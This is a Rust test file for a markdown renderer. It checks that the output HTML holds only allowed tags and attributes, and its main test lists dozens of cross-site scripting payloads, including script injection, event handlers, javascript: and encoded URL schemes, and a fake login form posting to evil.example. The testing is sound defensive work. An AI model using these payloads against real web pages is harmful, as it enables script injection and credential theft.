//! Descriptions, and what hostile ones become.

#![allow(clippy::unwrap_used)]

use proptest::prelude::*;

use super::*;

#[track_caller]
fn check(markdown: &str, expected: &str) {
    let mut find = |path: &str| (path == "a b.png" || path == "cat.png").then(|| format!("data:{path}"));
    assert_eq!(render(markdown, &mut find).0.trim_end(), expected, "{markdown}");
}

#[test]
fn markdown_becomes_elements() {
    check("a *b* **c** ~~d~~ `e<f`", "<p>a <em>b</em> <strong>c</strong> <del>d</del> <code>e&lt;f</code></p>");
    check("- a\n- [x] b", "<ul><li>a</li><li>☑ b</li></ul>");
    check("3. a", "<ol start=\"3\"><li>a</li></ol>");
    check("> a\n\n---", "<blockquote><p>a</p></blockquote><hr>");
    check("```js\"onload=x\na < b\n```", "<pre tabindex=\"0\"><code>a &lt; b\n</code></pre>");
    check(
        "|a|b|\n|-|:-:|\n|c|d<br>e|",
        "<div class=\"scroll\"><table><thead><tr><th scope=\"col\">a</th><th scope=\"col\">b</th></tr></thead>\
         <tbody><tr><td>c</td><td>d<br>e</td></tr></tbody></table></div>",
    );
}

#[test]
fn headings_skip_no_level() {
    check("# a\n# b\n## c", "<h3>a</h3><h3>b</h3><h4>c</h4>");
    check("## a\n##### b\n# c", "<h3>a</h3><h4>b</h4><h3>c</h3>");
    check(
        "# a\n## b\n### c\n#### d\n##### e\n###### f",
        "<h3>a</h3><h4>b</h4><h5>c</h5><h6>d</h6><h6>e</h6><h6>f</h6>",
    );
}

/// Fails if HTML has an element or an attribute that the writer does not make, or elements that do not end where they should.
#[track_caller]
fn assert_harmless(markdown: &str) {
    const ELEMENTS: &str =
        "p pre code em strong del blockquote a span br hr ul ol li h3 h4 h5 h6 div table thead tbody tr th td";
    let html = render(markdown, &mut |_| None).0;
    let mut open = Vec::new();
    for tag in html.split('<').skip(1).map(|rest| rest.split('>').next().unwrap()) {
        if let Some(name) = tag.strip_prefix('/') {
            assert_eq!(open.pop(), Some(name), "{markdown:?} gives {html}");
            continue;
        }
        let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        assert!(ELEMENTS.split(' ').any(|element| element == name), "<{tag}> of {markdown:?} in {html}");
        let start = attributes.strip_prefix("start=\"").and_then(|rest| rest.strip_suffix('"'));
        let link = attributes.strip_prefix("rel=\"noopener noreferrer nofollow\" href=\"");
        let link = link.and_then(|rest| rest.strip_suffix('"'));
        let is_known = start.is_some_and(|start| start.parse::<u64>().is_ok())
            || link.is_some_and(|link| is_link(link) && !link.contains('"'))
            || ["", "tabindex=\"0\"", "class=\"missing\"", "class=\"scroll\"", "scope=\"col\""].contains(&attributes);
        assert!(is_known, "<{tag}> of {markdown:?} in {html}");
        if !["br", "hr"].contains(&name) {
            open.push(name);
        }
    }
    assert!(open.is_empty(), "{markdown:?} gives {html}");
}

#[test]
fn html_is_text() {
    for hostile in [
        "<script>alert(1)</script>",
        "text <script>alert(1)</script> text",
        "<ScRiPt src=//evil.example/x.js>",
        "<img src=x onerror=alert(1)>",
        "a <img src=x onerror=alert(1)> b",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=x>",
        "<form action=https://evil.example><input name=token><button>Log in</button></form>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>body{background:url(https://evil.example)}</style>",
        "<p style=\"position:fixed\">x</p>",
        "<!-- never ends <script>alert(1)</script>",
        "<!--><script>alert(1)</script>-->",
        "<?php <script>alert(1)</script> ?>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "</div></main></body></html><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<details open ontoggle=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<textarea><script>alert(1)</script>",
        "<x\0y onclick=alert(1)>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#115;cript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](< javascript:alert(1)>)",
        "[x](<\u{1}javascript:alert(1)>)",
        "[x](vbscript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](file:///etc/passwd)",
        "[x](//evil.example)",
        "[x](/v2/models)",
        "[x](#answer)",
        "[x](https://good.example/\"onmouseover=\"alert(1))",
        "[x](https://good.example/ \"t\\\"onmouseover=alert(1)\")",
        "[x\"onmouseover=\"alert(1)](https://good.example/)",
        "<javascript:alert(1)>",
        "<https://good.example/\"onclick=alert(1)>",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        "![x\" onerror=\"alert(1)](https://evil.example/x.png)",
        "![<img src=x onerror=alert(1)>](missing.png)",
        "![x](missing\"onerror=\"alert(1).png)",
        "![x](../../etc/passwd)",
        "[![x](https://evil.example/x.png)](https://good.example/)",
        "[![x](https://evil.example/x.png)](javascript:alert(1))",
        "[a]: javascript:alert(1)\n\n[a]",
        "# <script>alert(1)</script> {onclick=alert(1)}",
        "`<script>alert(1)</script>`",
        "```<script>\n</code></pre><script>alert(1)</script>\n```",
        "    </code></pre><script>alert(1)</script>",
    ] {
        assert_harmless(hostile);
        assert_harmless(&format!("- {hostile}\n"));
        assert_harmless(&format!("> {hostile}\n"));
    }
}

proptest! {
    #[test]
    fn no_mixture_of_markup_is_harmful(
        pieces in proptest::collection::vec(
            prop_oneof![
                proptest::sample::select(&[
                    "<script>", "</script>", "<img src=x onerror=x>", "<!--", "-->", "<", ">", "\"", "'", "&lt;", "&#106;", "\\",
                    "[", "](", ")", "![", "](javascript:x)", "](https://x)", "](<", "[a]: ", "<https://x", "`", "```", "~~~", "*", "**",
                    "_", "~~", "# ", "> ", "- ", "1. ", "7) ", "|", "|-|-|", "---", "===", "\n", "\n\n", "    ", "\t", "<br>", "[x] ",
                ][..]).prop_map(str::to_owned),
                any::<String>(),
            ],
            0..40,
        )
    ) {
        assert_harmless(&pieces.concat());
    }
}

#[test]
fn links_lead_to_the_web() {
    let link = |target| format!("<p><a rel=\"noopener noreferrer nofollow\" href=\"{target}\">x</a></p>");
    check("[x](https://example.com/?a=1&b=2)", &link("https://example.com/?a=1&amp;b=2"));
    check("[x](HTTP://example.com)", &link("HTTP://example.com"));
    check("[x](mailto:a@example.com)", &link("mailto:a@example.com"));
    check("[x](ftp://example.com)", "<p>x</p>");
    check("[x](@misc/cat.png)", "<p>x</p>");
}

#[test]
fn pictures_are_those_of_the_carton() {
    check("![c*a*t](@misc/cat.png)", "<p><img alt=\"cat\" src=\"data:cat.png\"></p>");
    check("![](misc/cat.png)", "<p><img alt=\"\" src=\"data:cat.png\"></p>");
    check("![x](./cat.png)", "<p><img alt=\"x\" src=\"data:cat.png\"></p>");
    check("![x](a%20b.png)", "<p><img alt=\"x\" src=\"data:a b.png\"></p>");
    check("![x](@misc/dog.png)", "<p><span class=\"missing\">x (<code>misc/dog.png</code>, not shown)</span></p>");
    check("![x](/cat.png)", "<p><span class=\"missing\">x (not loaded)</span></p>");
    check(
        "![x](https://example.com/cat.png)",
        "<p><a rel=\"noopener noreferrer nofollow\" href=\"https://example.com/cat.png\">x (not loaded)</a></p>",
    );
    check(
        "[![x](https://example.com/cat.png)](https://example.com)",
        "<p><a rel=\"noopener noreferrer nofollow\" href=\"https://example.com\">\
         <span class=\"missing\">x (not loaded)</span></a></p>",
    );
}

#[test]
fn deep_and_long_descriptions_stay_small() {
    let html = render(&"> ".repeat(10_000), &mut |_| None).0;
    assert!(html.matches("<blockquote>").count() <= MAX_DEPTH, "{}", html.len());
    // Rows with fewer cells than the head are filled up.
    let head = format!("{}\n{}\n", "|a".repeat(20_000), "|-".repeat(20_000));
    let html = render(&format!("{head}{}", "|\n".repeat(30_000)), &mut |_| None).0;
    assert!(html.len() < 8 << 20, "{}", html.len());
    let html = render(&"a".repeat(MAX_LENGTH + 5), &mut |_| None).0;
    assert_eq!(html.chars().count(), MAX_LENGTH + "<p>…</p>".chars().count());
}
